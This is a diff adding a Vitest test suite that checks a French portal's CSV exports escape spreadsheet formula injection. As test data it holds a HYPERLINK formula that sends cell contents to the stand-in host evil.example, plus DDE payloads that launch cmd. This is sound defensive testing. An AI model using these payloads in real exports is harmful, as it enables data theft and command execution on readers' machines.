@@ -1,0 +1,100 @@
+import { parse } from 'csv-parse/sync';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { hashPassword } from '$lib/server/auth/password';
+import { findUserById, insertUser, type User } from '$lib/server/auth/users';
+import {
+	addAgendaFiches,
+	changeSessionState,
+	createCommissionSession,
+	recordDecision
+} from '$lib/server/commission/service';
+import { tableToCsv } from '$lib/server/dashboard/tables';
+import type { Db } from '$lib/server/db';
+import { initDatabase } from '$lib/server/db/instance';
+import { buildPlanDocument, planDocumentToCsv } from '$lib/server/opendata/plan-document';
+import { GET as releve } from './commission/seances/[id]/releve.csv/+server';
+
+/** Every CSV the portal writes: a free-text cell that a spreadsheet would run starts with '. */
+
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';
+let db: Db;
+let admin: User;
+
+beforeAll(async () => {
+	db = await initDatabase(':memory:');
+	admin = (await findUserById(
+		db,
+		await insertUser(db, {
+			email: 'admin@lot.fr',
+			name: 'Anne Admin',
+			role: 'admin',
+			organisationId: null,
+			passwordHash: await hashPassword('une phrase de passe correcte')
+		})
+	))!;
+});
+
+const cells = (csv: string) => parse(csv, { relax_column_count: true }).flat() as string[];
+
+describe('CSV formula injection', () => {
+	it('releve.csv: a decision’s reason', async () => {
+		const created = await createCommissionSession(
+			db,
+			admin,
+			{ heldOn: '2026-05-01', place: 'Cahors', title: 'Commission' },
+			null
+		);
+		if (!created.ok) throw new Error('setup');
+		await addAgendaFiches(db, admin, created.id, ['4-1'], null);
+		await changeSessionState(db, admin, created.id, 'held', null);
+		const item = await db
+			.selectFrom('agenda_item')
+			.select('id')
+			.where('session_id', '=', created.id)
+			.executeTakeFirstOrThrow();
+		expect(
+			await recordDecision(db, admin, created.id, item.id, { kind: 'free', text: FORMULA }, null)
+		).toEqual({ ok: true });
+		await changeSessionState(db, admin, created.id, 'closed', null);
+		const response = await releve({ params: { id: String(created.id) } } as never);
+		const all = cells(await response.text());
+		expect(all).toContain(`'${FORMULA}`);
+		expect(all).not.toContain(FORMULA);
+	});
+
+	it('fiches.csv: titles and organisations', async () => {
+		const document = await buildPlanDocument(db);
+		const fiche = document.fiches[0]!;
+		fiche.title = '+cmd|" /C calc"!A0';
+		fiche.partners = ['@SUM(1+1)*cmd'];
+		const all = cells(planDocumentToCsv(document));
+		expect(all).toContain(`'+cmd|" /C calc"!A0`);
+		expect(all).toContain(`'@SUM(1+1)*cmd`);
+	});
+
+	it('dashboard and edition CSVs: labels, never numbers', () => {
+		const csv = tableToCsv({
+			id: 'activite',
+			title: 'Activité',
+			unit: '',
+			summary: '',
+			columns: [
+				{ key: 'organisation', label: 'Organisation' },
+				{ key: 'valeur', label: 'Valeur' }
+			],
+			rows: [
+				["-2+3+cmd|' /C calc'!A0", -3],
+				['\tTab', 1.5]
+			]
+		});
+		const all = cells(csv);
+		expect(all).toEqual([
+			'organisation',
+			'valeur',
+			"'-2+3+cmd|' /C calc'!A0",
+			'-3',
+			"'\tTab",
+			'1.5'
+		]);
+	});
+});
